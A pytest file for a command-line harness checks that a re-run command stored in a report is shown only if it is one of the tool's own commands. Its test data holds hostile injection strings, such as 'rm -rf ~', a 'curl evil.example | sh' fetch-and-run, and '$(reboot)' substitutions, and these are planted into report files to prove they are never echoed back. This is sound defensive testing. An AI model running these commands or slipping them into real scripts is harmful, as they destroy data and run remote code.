"""A report may be anybody's: what it says is to be typed is one of our own commands, or is not shown."""

import base64
import gzip
import json
import re
import shlex

import pytest

from harness.report import read
from harness.report.again import PLAIN, again
from harness.report.pages import index

FOREIGN = [
    "rm -rf ~",
    "harness run; rm -rf ~",
    "harness run && curl evil.example | sh",
    "harness run $(reboot)",
    "harness run `reboot`",
    "harness run\nreboot",
    "harness run --out /",
    "harness run --weights",
    "harness run --weights --out",
    "harness run --weights 'a\x1b[2Jb'",
    "harness run 'a case of theirs'",
    "harness check",
    "harness check script.sh",
    "harness check my.py --out /",
    "harness check my.py other.py",
    "harness check my.py:run()",
    "harness port a.pt --to exe b",
    "harness check my.py --require-all yes",
    "harness check my.py -- --out",
    "harness check -x.py",
    "harness check -- -- my.py",
    "harness check my.py --limit soon",
    "harness port a.pt --to keras b.keras --cell '$(reboot)'",
    "harness port a.pt --to keras b.keras --activation 'a b'",
    "harness port a.pt --to keras b.keras --forget-bias --reset",
    "harness port a.pt --to keras b.keras --proof /",
    "harness fuzz",
    "harness",
    "harness run 'unclosed",
    "",
    None,
    ["harness", "run"],
    7,
    "harness check " + "x" * 5000 + ".py",
]

PORTS = (
    (
        "harness port m.npz --to tf1 m.index --layer a.b --layout keras --cell lstm --activation tanh "
        "--recurrent-activation hard_sigmoid --forget-bias -1.5e-05 --reset before --ignore net.norm --ignore x"
    ),
    "harness port --to torch --cell gru -- -m.npz -m.pt",
)

OURS = {
    "harness run": "harness run 'small'",
    "harness run --weights 'a b.pt' --layer encoder.rnn": "harness run --weights 'a b.pt' --layer encoder.rnn 'small'",
    "harness check 'my rnn.py:my_bptt'": "harness check 'my rnn.py:my_bptt' 'small'",
    "harness check '$(reboot).py'": "harness check '$(reboot).py' 'small'",
    "harness check a.py;reboot.py": "harness check 'a.py;reboot.py' 'small'",
    "harness check --require-all my.py": "harness check --require-all my.py 'small'",
    "harness check --baseline torch --limit 5 my.py": "harness check --baseline torch --limit 5 my.py 'small'",
    "harness check --require-all -- -x.py": "harness check --require-all -- -x.py 'small'",
    "harness run --baseline torch --ignore 'net.norm'": "harness run --baseline torch --ignore net.norm 'small'",
    "harness port m.h5 --to torch m.pt": "harness port m.h5 --to torch m.pt",
    **{command: command for command in PORTS},
}
"""Commands that a report may have, each with the words that are shown for one case of it."""


@pytest.mark.parametrize("said", FOREIGN, ids=lambda said: repr(said)[:60])
def test_what_is_none_of_our_commands_is_not_shown(said):
    assert again({"again": said}) == again({}) == PLAIN
    assert again({"again": said}).for_case("small") == "harness run 'small'"


@pytest.mark.parametrize(("said", "shown"), OURS.items(), ids=list(OURS))
def test_ours_is_put_together_anew(said, shown):
    assert again({"again": said}).for_case("small") == shown
    assert shlex.split(shown)[: len(shlex.split(said))] == shlex.split(said)


@pytest.mark.parametrize("name", ["it's", "$(reboot)", "a b", '"', "`x`", "-rf", "--out"])
def test_a_name_is_one_word_and_no_option(name):
    for implementation in ("", "mine", "$(reboot)", "-x"):
        words = shlex.split(PLAIN.for_case(name, implementation))
        assert words[2] == name or words[-2:] == ["--", name]
        assert ("--" in words) == name.startswith("-")
        if implementation:
            assert words[words.index("--impl") + 1] == implementation


def hostile(copied):
    path = copied / "environment.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "again": "harness run; curl evil.example | sh"}))
    for table in copied.glob("*.csv"):
        table.write_text(table.read_text().replace("small[dtype=float64]", "small';reboot;'"))
    return copied


def test_neither_the_terminal_nor_the_page_repeats_a_foreign_command(harness, copied):
    shown = harness("show", str(hostile(copied)), "--case", "small';reboot;'")
    assert shown.returncode == 0, shown.stderr
    last = shown.stdout.splitlines()[-1]
    assert shlex.split(last) == ["next:", "harness", "run", "small';reboot;'"]
    assert "evil" not in shown.stdout
    page = index.text(read(copied))
    packed = re.search(r'id="data">([^<]*)<', page)[1]
    data = gzip.decompress(base64.b64decode(packed)).decode()
    assert "evil" not in page + data
    (case,) = [each for each in json.loads(data)["cases"] if "reboot" in each["name"]]
    assert shlex.split(case["typed"]) == [case["name"]]
    for run in case["runs"]:
        assert shlex.split(run["again"]) == ["harness", "run", case["name"], "--impl", run["implementation"]]


def test_what_is_judged_anew_is_repeated_as_before(harness, copied):
    path = copied / "environment.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "again": "harness check my.py"}))
    harness("judge", str(copied), "--out", "judged")
    assert (
        "next: harness check my.py 'small[dtype=float64]'"
        in harness("show", "judged", "--case", "small[dtype=float64]").stdout
    )


def test_every_option_of_a_port_and_a_check_is_one_that_may_be_repeated():
    """An option that is new, changes what the report holds, and is not known here, would be lost without a word."""
    from harness.cli import check, port
    from harness.report.again import _COMMANDS

    of_this_call = {"--proof", "--out", "--json"}
    for module, name in ((port, "port"), (check, "check")):
        options = {each.opts[0] for each in module.command.params if each.opts[0].startswith("--")}
        assert options - of_this_call == set(_COMMANDS[name][1])
